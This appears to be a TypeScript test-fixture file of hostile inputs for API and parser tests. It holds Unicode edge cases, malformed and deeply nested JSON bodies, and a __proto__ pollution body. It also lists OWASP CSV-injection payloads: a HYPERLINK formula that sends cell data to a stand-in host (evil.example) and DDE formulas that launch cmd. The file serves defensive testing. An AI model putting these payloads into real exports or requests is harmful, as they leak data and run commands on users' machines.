/**
 * Hostile inputs shared by the tests that probe the API and the parsers: Unicode edge cases, formula-injection payloads and
 * raw JSON bodies a JSON.stringify would never produce.
 */

/** Unicode that breaks naive code: bidi controls, zero-width, 4-byte emoji, combining marks, BOM, NUL. */
export const UNICODE_EDGES = [
  '\u202eevil\u202c', // right-to-left override
  '\u200f\u200e\u061c', // RTL / LTR / Arabic letter marks
  'a\u200b\u200c\u200db\u2060', // zero-width space, non-joiners, word joiner
  '\ufeffbom',
  '😀👩‍👩‍👧‍👦🏳️‍🌈', // 4-byte emoji and ZWJ sequences
  'e\u0301\u0301\u0301\u0301', // stacked combining marks
  '\u0000nul',
  'Ива\u0301н Пе\u0300тров',
  '\uffff\ufffe',
  '𝕳𝖊𝖑𝖑𝖔', // mathematical alphanumerics (surrogate pairs)
  ' '.repeat(3) + '\t\n\r',
];

/** OWASP CSV-injection payloads, each starting with a character a spreadsheet evaluates. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  "=cmd|' /C notepad'!'A1'",
];

/** Characters a formula-injection-safe cell must never start with (unless escaped by a leading quote). */
export const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * Raw JSON texts with escapes and shapes a serializer would not produce: lone surrogates in \u
 * escapes, deep nesting, duplicated keys, huge numbers, BOM before the JSON.
 */
export function rawJsonBodies(): { label: string; raw: string }[] {
  const deep = (n: number) => '['.repeat(n) + ']'.repeat(n);
  const deepObj = (n: number) => '{"a":'.repeat(n) + '1' + '}'.repeat(n);
  return [
    { label: 'lone high surrogate', raw: '{"name":"\\ud800","fullName":"\\ud800x","title":"\\udfff"}' },
    { label: 'reversed surrogate pair', raw: '{"name":"\\udc00\\ud800","fullName":"\\udc00\\ud800"}' },
    { label: 'deep array nesting (5,000)', raw: deep(5000) },
    { label: 'deep object nesting (5,000)', raw: deepObj(5000) },
    { label: 'duplicate keys', raw: '{"name":"a","name":{"x":1},"fullName":1,"fullName":"b"}' },
    { label: 'huge number', raw: '{"amountMinor":1e400,"name":"x","title":"x"}' },
    { label: 'negative zero and NaN-like', raw: '{"amountMinor":-0,"probability":"NaN"}' },
    { label: 'BOM before JSON', raw: '\ufeff{"name":"x"}' },
    { label: 'truncated', raw: '{"name":"x' },
    { label: 'trailing garbage', raw: '{"name":"x"} {"name":"y"}' },
    { label: 'empty', raw: '' },
    { label: 'null', raw: 'null' },
    { label: 'string', raw: '"just a string"' },
    { label: '__proto__ pollution', raw: '{"__proto__":{"role":"admin"},"constructor":{"prototype":{"x":1}},"name":"x"}' },
    { label: 'NUL in key', raw: '{"na\\u0000me":"x"}' },
  ];
}

/** A string of about `bytes` UTF-8 bytes, mixing 1-4 byte characters. */
export function bigString(bytes: number): string {
  const unit = 'aЖ€😀'; // 1 + 2 + 3 + 4 = 10 bytes
  return unit.repeat(Math.ceil(bytes / 10)).slice(0, Math.ceil(bytes / 10) * unit.length);
}
